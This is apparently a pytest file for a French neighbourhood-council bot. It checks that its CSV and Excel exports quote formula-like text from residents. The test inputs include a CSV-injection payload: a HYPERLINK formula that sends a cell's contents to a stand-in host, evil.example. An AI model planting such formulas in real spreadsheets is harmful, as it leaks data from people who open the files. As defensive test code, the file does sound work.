"""A resident's words that look like a spreadsheet formula come out of every CSV and every
workbook as text: the CLI's and the dashboard's exports, and the consultation results CSV
posted in chat. A normal text, a French one with accents, and the numbers we write are left
as they are."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy.ext.asyncio import AsyncSession

from bot.app import CoupDePouce
from flows import spreadsheet
from flows.broadcasts.service import ReportTo
from flows.consultations import service as consultations
from flows.consultations.results import table
from flows.consultations.service import NewConsultation, NewQuestion
from storage import db
from storage.models import (
    Answer,
    Call,
    CallAnswer,
    CallStatus,
    Consultation,
    Council,
    Meeting,
    MeetingInvite,
    MeetingStatus,
    QuestionKind,
    Rsvp,
    TalentProfile,
    utcnow,
)
from tests.conftest import in_transaction
from tests.emulator import BotApiEmulator
from tests.factories import add_residents
from tests.helpers import EN, run_cli
from tests.test_dashboard import Tab, link_for
from tests.test_talents import coordinator_of

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
NORMAL = "Je bricole le week-end"
FRENCH = "Élagage, café et pâtisserie à la Gare ; « merci » !"
EVIL_NAME = "@SUM(1+1)"
TEXTS = (EVIL, NORMAL, FRENCH)
KINDS = ("talents", "calls", "meetings", "consultations")


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (EVIL, "'" + EVIL),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=already quoted", "'=already quoted"),  # a table read back is not quoted twice
        (NORMAL, NORMAL),
        (FRENCH, FRENCH),
        ("a = b", "a = b"),  # only the first character counts
        ("-3", "-3"),  # plain numbers stay numbers, written as text or as numbers
        ("+1.5", "+1.5"),
        (-3, -3),
        (-0.25, -0.25),
        (None, None),
        (True, True),
    ],
)
def test_a_formula_like_text_is_shown_as_text(value: object, shown: object) -> None:
    assert spreadsheet.cell(value) == shown


def test_every_csv_is_written_by_the_one_helper() -> None:
    """A new export cannot forget: nothing else in the code writes CSV itself."""
    root = Path(__file__).resolve().parents[1]
    writers = re.compile(r"csv\.(writer|DictWriter)\b|\bDictWriter\(")
    offenders = [
        str(path.relative_to(root))
        for folder in ("bot", "flows", "storage")
        for path in (root / folder).rglob("*.py")
        if path.name != "spreadsheet.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


async def seed(session: AsyncSession, council: Council) -> Consultation:
    """Residents whose own words, first names and free-text answers reach every export."""
    stored = await session.get_one(Council, council.id)
    # Three answer the anonymous consultation: its live figures show from three answers.
    stored.small_group_threshold = 3
    residents = await add_residents(session, stored, [61_001, 61_002, 61_003, 61_004])
    for person, name in zip(residents, (EVIL_NAME, "Bruno", "Chloé", "Amina"), strict=True):
        person.first_name = name
    for person, words in zip(residents, TEXTS, strict=False):
        session.add(TalentProfile(council_id=stored.id, person_id=person.id, own_words=words))
    now = utcnow()
    call = Call(
        council_id=stored.id,
        title="Repeindre le local",
        description="Samedi matin",
        needed_when="",
        deadline=now + timedelta(days=3),
        status=CallStatus.OPEN,
    )
    meeting = Meeting(
        council_id=stored.id,
        uid="paint@test",
        title="Assemblée de quartier",
        place="Maison de quartier",
        starts_at=now + timedelta(days=5),
        ends_at=now + timedelta(days=5, hours=2),
        sequence=0,
        status=MeetingStatus.SCHEDULED,
        reminder_hours=[],
        skill_ids=[],
        audience="all",
    )
    session.add_all([call, meeting])
    await session.flush()
    for order, person in enumerate(residents):  # the first answer starts the cell of names
        session.add(
            CallAnswer(
                call_id=call.id,
                person_id=person.id,
                answer=Answer.YES,
                answered_at=now + timedelta(seconds=order),
            )
        )
        session.add(
            MeetingInvite(
                meeting_id=meeting.id, person_id=person.id, rsvp=Rsvp.COMING, answered_at=now
            )
        )
    asked = await consultations.create(
        session,
        stored,
        NewConsultation(
            "Le jardin partagé",
            [NewQuestion(QuestionKind.TEXT, "Une idée ?")],
            now - timedelta(hours=1),
            now + timedelta(days=7),
            counts_unverified=True,
        ),
        None,
        ReportTo("telegram", "61000", "fr"),
        now=now,
    )
    [question] = await consultations.questions_of(session, asked.id)
    for person, text in zip(residents, TEXTS, strict=False):
        ballot = await consultations.ballot_for(session, asked, person)
        await consultations.record(session, person, ballot, question, text=text)
    await session.flush()
    return asked


def cells(text: str, delimiter: str) -> set[str]:
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter)
    return {value for row in rows for value in row}


def assert_neutralised(kind: str, text: str, delimiter: str = ";") -> None:
    """The CSV quotes every formula-like text (the council is French: ';' between cells)."""
    found = cells(text, delimiter)
    if kind in ("talents", "consultations"):  # a resident's own words, free-text answers
        assert "'" + EVIL in found, kind
        assert {NORMAL, FRENCH} <= found, kind
        assert EVIL not in found, kind
    if kind in ("calls", "meetings"):  # those who answered, by first name
        assert any(value.startswith("'" + EVIL_NAME) for value in found), kind
        assert not any(value.startswith(EVIL_NAME) for value in found), kind
        assert any("Chloé" in value for value in found), kind


def assert_workbook_neutralised(kind: str, content: bytes) -> None:
    """The workbook holds every text as a string cell, never a formula: the resident's words
    exactly as written, marked quoted where they look like a formula."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    found = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in found if cell.data_type == "f"] == [], kind
    texts = {cell.value: cell for cell in found if isinstance(cell.value, str)}
    if kind in ("talents", "consultations"):
        assert texts[EVIL].data_type == "s" and texts[EVIL].quotePrefix, kind
        assert {NORMAL, FRENCH} <= set(texts), kind
        assert not texts[NORMAL].quotePrefix, kind
    if kind in ("calls", "meetings"):
        [names] = [cell for value, cell in texts.items() if value.startswith(EVIL_NAME)]
        assert names.data_type == "s" and names.quotePrefix, kind
        assert any("Chloé" in value for value in texts), kind


async def test_the_cli_exports_show_formulas_as_text(
    database_url: str, council: Council, tmp_path: Path
) -> None:
    engine = db.create_engine(database_url)
    try:
        async with db.session_scope(db.session_factory(engine)) as session:
            await seed(session, council)
    finally:
        await engine.dispose()
    env = {"DATABASE_URL": database_url}
    for kind in KINDS:
        code, out, err = await run_cli("export", kind, "--council", "quartier-nord", env=env)
        assert code == 0, err
        assert_neutralised(kind, out)
        workbook = tmp_path / f"{kind}.xlsx"
        code, out, err = await run_cli(
            "export",
            kind,
            "--council",
            "quartier-nord",
            "--format",
            "xlsx",
            "-o",
            str(workbook),
            env=env,
        )
        assert code == 0, err
        assert_workbook_neutralised(kind, workbook.read_bytes())


async def test_the_dashboard_downloads_and_the_results_in_chat_show_formulas_as_text(
    bot: CoupDePouce, emulator: BotApiEmulator, council: Council
) -> None:
    asked = await in_transaction(bot, lambda session: seed(session, council))
    nadia = await coordinator_of(bot, emulator, council, 61_010)
    tab = Tab()
    try:
        await tab.sign_in(await link_for(nadia))
        base = f"http://127.0.0.1:{bot.port}/dashboard/quartier-nord"
        for kind in KINDS:
            async with tab.client.get(f"{base}/export/{kind}.csv") as response:
                assert response.status == 200, kind
                assert_neutralised(kind, (await response.read()).decode("utf-8"))
            async with tab.client.get(f"{base}/export/{kind}.xlsx") as response:
                assert response.status == 200, kind
                assert_workbook_neutralised(kind, await response.read())
    finally:
        await tab.close()

    async def figures(session: AsyncSession) -> bytes:
        stored = await session.get_one(Council, council.id)
        found = await session.get_one(Consultation, asked.id)
        results = await consultations.aggregate(session, found, stored.small_group_threshold)
        return table(EN, results)  # the file posted to the organiser and the group

    posted = (await in_transaction(bot, figures)).decode("utf-8-sig")
    assert_neutralised("consultations", posted, delimiter=",")  # in English
